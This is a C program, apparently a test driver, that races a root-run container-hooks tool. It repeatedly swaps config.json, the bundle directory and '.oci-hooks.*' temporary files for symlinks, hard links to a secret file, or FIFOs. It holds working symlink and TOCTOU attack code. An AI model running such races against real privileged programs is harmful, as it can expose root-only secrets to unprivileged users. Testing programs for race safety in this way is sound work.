/* An unprivileged user who races with a program of root:
 * attack file|directory|temporary HOME SECRET.
 * HOME/bundle is the user's bundle, HOME/link a symlink to a directory of root. It runs until it
 * is killed. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *secret;

/* Waits for a random time: zero, or about as long as a few system calls take. */
static void pause_a_little(void) {
    long length = random() % 2 ? 0 : random() % 100000;
    for (volatile long i = 0; i < length; i++) {
    }
    if (random() % 64 == 0) {
        struct timespec time = {0, random() % 300000};
        nanosleep(&time, NULL);
    }
}

/* Makes a file of the user that everybody may write. */
static void make_file(const char *name, const char *text) {
    unlink(name);
    int file = open(name, O_CREAT | O_WRONLY | O_TRUNC, 0666);
    if (file < 0) {
        return;
    }
    if (write(file, text, strlen(text)) < 0) {
        perror(name);
    }
    fchmod(file, 0666);
    close(file);
}

/* Makes the config the user's file, a link or hard link to the secret, or a FIFO, or removes it. */
static void attack_file(void) {
    switch (random() % 8) {
    case 0:
    case 1:
    case 2:
    case 3:
        make_file("new", "{\"user\":\"was here\"}\n");
        break;
    case 4:
        unlink("new");
        if (symlink(secret, "new") < 0) {
            return;
        }
        break;
    case 5:
        unlink("new");
        if (link(secret, "new") < 0) {
            return;
        }
        break;
    case 6:
        unlink("new");
        if (mkfifo("new", 0666) < 0) {
            return;
        }
        break;
    default:
        unlink("config.json");
        return;
    }
    if (random() % 2) {
        rename("new", "config.json");
    } else {
        renameat2(AT_FDCWD, "new", AT_FDCWD, "config.json", RENAME_EXCHANGE);
    }
}

/* Exchanges the bundle's directory and a symlink to a directory of root. */
static void attack_directory(void) {
    renameat2(AT_FDCWD, "bundle", AT_FDCWD, "link", RENAME_EXCHANGE);
}

/* Makes each temporary name a symlink, a hard link, or the config. */
static void attack_temporary(void) {
    DIR *directory = opendir(".");
    struct dirent *entry;
    while (directory && (entry = readdir(directory))) {
        if (strncmp(entry->d_name, ".oci-hooks.", 11) != 0) {
            continue;
        }
        switch (random() % 3) {
        case 0:
            unlink("swap");
            if (symlink(secret, "swap") == 0) {
                renameat2(AT_FDCWD, "swap", AT_FDCWD, entry->d_name, RENAME_EXCHANGE);
            }
            break;
        case 1:
            unlink("swap");
            if (link(secret, "swap") == 0) {
                rename("swap", entry->d_name);
            }
            break;
        default:
            renameat2(AT_FDCWD, "config.json", AT_FDCWD, entry->d_name, RENAME_EXCHANGE);
        }
    }
    if (directory) {
        closedir(directory);
    }
}

int main(int count, char **arguments) {
    if (count != 4) {
        return 2;
    }
    secret = arguments[3];
    srandom((unsigned)getpid());
    /* chdir keeps the bundle, since another attacker moves it. */
    if (chdir(arguments[2]) < 0 || (strcmp(arguments[1], "directory") != 0 && chdir("bundle") < 0)) {
        perror(arguments[2]);
        return 1;
    }
    puts("ready");
    fflush(stdout);
    for (;;) {
        if (strcmp(arguments[1], "file") == 0) {
            attack_file();
        } else if (strcmp(arguments[1], "directory") == 0) {
            attack_directory();
        } else {
            attack_temporary();
        }
        pause_a_little();
    }
}
